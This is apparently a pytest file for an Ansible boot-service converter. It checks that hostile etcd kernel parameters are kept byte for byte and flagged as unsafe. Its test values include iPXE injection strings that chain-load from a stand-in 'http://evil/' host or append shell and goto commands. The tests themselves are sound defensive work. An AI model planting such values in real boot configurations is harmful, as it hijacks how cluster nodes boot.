# -*- coding: utf-8 -*-
# Copyright: hpc_boot.bss contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Hostile etcd content (issue 14): carried over as the old BSS served it, and flagged as ``unsafe_params``."""

from __future__ import annotations

import json

import pytest

from ansible_collections.hpc_boot.bss.plugins.module_utils import bss_convert as conv

K, I = "http://10.0.0.1/boot/vmlinuz", "http://10.0.0.1/boot/initrd.img"
SMD = [{"xname": "x3000c0s1b0n0", "nid": 1, "macs": ["a4:bf:01:3e:1f:a0"]},
       {"xname": "x3000c0s1b0n1", "nid": 2, "macs": ["a4:bf:01:3e:1f:a1"]}]


def _etcd(records, images=None):
    """(params, kernels, initrds) for records ``name -> (params, kernel, initrd)``; images ``path -> image params``."""
    images = images or {}
    params, kernels, initrds = {}, {}, {}
    for name, (cmdline, kernel, initrd) in records.items():
        value = {"params": cmdline}
        for prefix, path, store in (("/kernel/", kernel, kernels), ("/initrd/", initrd, initrds)):
            if path:
                key = prefix + conv.bss_image_hash(path)
                value[prefix.strip("/")] = key
                store[key] = json.dumps(dict({"path": path}, **({"params": images[path]} if path in images else {})))
        params[name] = json.dumps(value)
    return params, kernels, initrds


def _convert(records, images=None):
    return conv.convert(*_etcd(records, images), endpoint_access=[], smd_nodes=SMD)


def _unsafe(result):
    return [loss for loss in result["losses"] if loss["kind"] == "unsafe_params"]


@pytest.mark.parametrize("cmdline, token", [
    ("console=ttyS0 || goto x", "'||'"), ("a && chain http://evil/", "'&&'"), ("a ; shell", "';'"),
    ("quiet #rest", "'#rest'"), ("quiet\n#!ipxe\nchain http://evil/", "newline"),
    ("||initrd=x quiet", "when BSS removes its 'initrd' part"),
])
def test_hostile_params_are_carried_faithfully_and_flagged(cmdline, token):
    result = _convert({"x3000c0s1b0n0": (cmdline, K, I), "x3000c0s1b0n1": ("quiet", K, I)})
    rows = {row["xname"]: row["config"] for row in result["nodes"]}
    assert rows["x3000c0s1b0n0"] == (K, I, cmdline)          # byte for byte what etcd-mode BSS served
    unsafe = _unsafe(result)
    assert [loss["name"] for loss in unsafe] == ["x3000c0s1b0n0"]
    assert unsafe[0]["detail"].startswith("params %r " % cmdline) and token in unsafe[0]["detail"]


def test_unsafe_image_and_image_params_name_their_field():
    bad_kernel = "http://10.0.0.1/k || goto x"
    result = _convert({"x3000c0s1b0n0": ("quiet", bad_kernel, ""), "x3000c0s1b0n1": ("quiet", K, I)},
                      images={I: "a && b"})
    details = sorted((loss["name"], loss["detail"].split(" ")[0]) for loss in _unsafe(result))
    assert details == [("x3000c0s1b0n0", "kernel"), ("x3000c0s1b0n1", "initrd")]
    assert "initrd image params (/initrd/%s) 'a && b'" % conv.bss_image_hash(I) in _unsafe(result)[1]["detail"]


def test_a_default_record_serving_many_nodes_is_flagged_once():
    result = _convert({"Default": ("a || b", K, "")})
    assert [(loss["name"], loss["kind"]) for loss in _unsafe(result)] == [("Default", "unsafe_params")]
    assert len(result["nodes"]) == 2


def test_unserved_and_kernel_less_records_are_not_flagged():
    """Nothing of these is written, so there is nothing unsafe to carry (their own loss kinds report them)."""
    result = _convert({"x3000c0s1b0n0": ("a || b", "", ""), "x9000c0s0b0n0": ("a || b", K, "")})
    assert _unsafe(result) == []
    assert {loss["kind"] for loss in result["losses"]} >= {"kernel_missing", "unknown_xname_record"}


def test_safe_values_with_settings_and_glued_operators_are_not_flagged():
    result = _convert({"x3000c0s1b0n0": ("spire=${SPIRE_JOIN_TOKEN} a||b x#1 ds=nocloud-net;s=http://h/", K, I)})
    assert _unsafe(result) == []


def test_unsafe_losses_are_accepted_by_kind_or_by_name_only():
    losses = _unsafe(_convert({"x3000c0s1b0n0": ("a || b", K, I)}))
    assert conv.unaccepted_losses(losses, [], []) == losses
    assert conv.unaccepted_losses(losses, ["unsafe_params"], []) == []
    assert conv.unaccepted_losses(losses, [], ["x3000c0s1b0n0"]) == []
    assert conv.unaccepted_losses(losses, ["tag_record"], ["x3000c0s1b0n1"]) == losses
